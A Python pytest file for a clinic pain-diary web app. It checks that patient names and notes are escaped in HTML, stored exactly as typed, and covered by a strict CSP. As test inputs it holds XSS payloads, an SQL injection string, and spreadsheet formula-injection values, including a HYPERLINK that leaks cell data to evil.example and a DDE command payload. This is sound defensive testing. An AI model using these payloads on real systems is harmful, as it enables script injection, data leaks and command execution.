"""Hostile text is stored as typed and always shown escaped."""

import re
from datetime import UTC, datetime

import pytest
from markupsafe import escape

from tests.conftest import input_value, sign_in
from tests.web.helpers import add_entry, entries, post_entry, textarea_value

pytestmark = pytest.mark.usefixtures("fixed_now")

SCRIPT = "<script>alert(1)</script>"
NAME = '<img src=x onerror=alert(1)> "Bobby" & <b>Tables</b>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
OTHER_FORMULAS = ["+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "=cmd|' /C calc'!A0"]


@pytest.fixture
def hostile(app, client, world):
    """A clinician adds a patient with an HTML name; the patient writes a script in a note."""
    world.clinician_id = world.clinician()
    sign_in(client, "dr@clinic.example")
    page = client.get("/clinic/patients/new").get_data(as_text=True)
    response = client.post("/clinic/patients/new", data={
        "display_name": NAME, "treated_side": "left", "condition": "crps", "temp_unit": "C",
        "timezone": "Europe/London", "csrf_token": input_value(page, "csrf_token")})
    assert response.status_code == 302
    world.patient_id = int(response.headers["Location"].split("/")[3])
    world.entry = add_entry(app, world.patient_id, datetime(2025, 6, 15, 9, 0, tzinfo=UTC),
                            notes=SCRIPT)
    return world


def assert_escaped(html: str, text: str):
    assert text not in html
    assert str(escape(text)) in html


def test_clinician_pages_escape_the_name_and_the_note(client, hostile):
    listing = client.get("/clinic/").get_data(as_text=True)
    assert_escaped(listing, NAME)
    page = client.get(f"/clinic/patients/{hostile.patient_id}").get_data(as_text=True)
    assert_escaped(page, NAME)
    assert_escaped(page, SCRIPT)
    # Scripts come only from static files (or are JSON data): nothing inline could run.
    for tag in re.findall(r"<script\b[^>]*>", page, re.I):
        assert re.search(r'\bsrc="/', tag) or 'type="application/json"' in tag, tag
    assert "onerror=" not in page.replace("onerror=alert(1)&gt;", "")


def test_invite_pages_escape_the_name(client, app, hostile):
    page = client.get(f"/clinic/patients/{hostile.patient_id}").get_data(as_text=True)
    invite = client.post(f"/clinic/patients/{hostile.patient_id}/invite", follow_redirects=True,
                         data={"csrf_token": input_value(page, "csrf_token")})
    html = invite.get_data(as_text=True)
    assert_escaped(html, NAME)
    path = re.search(r"http://localhost(/invite/[\w-]+)", html).group(1)
    assert_escaped(app.test_client().get(path).get_data(as_text=True), NAME)


def test_patient_pages_escape_their_own_note(app, client, hostile):
    page = client.get(f"/clinic/patients/{hostile.patient_id}").get_data(as_text=True)
    html = client.post(f"/clinic/patients/{hostile.patient_id}/invite", follow_redirects=True,
                       data={"csrf_token": input_value(page, "csrf_token")}).get_data(
        as_text=True)
    path = re.search(r"http://localhost(/invite/[\w-]+)", html).group(1)
    phone = app.test_client()
    form = phone.get(path).get_data(as_text=True)
    phone.post(path, data={"email": "bobby@home.example", "password": "x" * 12,
                           "confirm": "x" * 12, "csrf_token": input_value(form, "csrf_token")})
    for url in ("/diary/history", f"/diary/entries/{hostile.entry}/delete",
                f"/diary/entries/{hostile.entry}/edit"):
        html = phone.get(url).get_data(as_text=True)
        assert_escaped(html, SCRIPT)
    edit = phone.get(f"/diary/entries/{hostile.entry}/edit").get_data(as_text=True)
    assert textarea_value(edit, "notes") == str(escape(SCRIPT))


@pytest.mark.parametrize("note", [FORMULA, SCRIPT, "'; DROP TABLE entry;--", *OTHER_FORMULAS,
                                  "Ünïcödé — “quotes” 🦶", "line one\nline two"])
def test_notes_are_stored_exactly_as_typed(as_patient, app, note):
    assert post_entry(as_patient, pain="5", notes=note).status_code == 302
    [entry] = entries(app)
    assert entry.notes == note
    assert post_entry(as_patient, pain="4").status_code == 302  # the table is still there
    assert len(entries(app)) == 2


def test_the_csp_forbids_inline_scripts(client):
    csp = client.get("/sign-in").headers["Content-Security-Policy"]
    script_src = next(p for p in csp.split(";") if p.strip().startswith("script-src"))
    assert "'self'" in script_src and "unsafe-inline" not in script_src
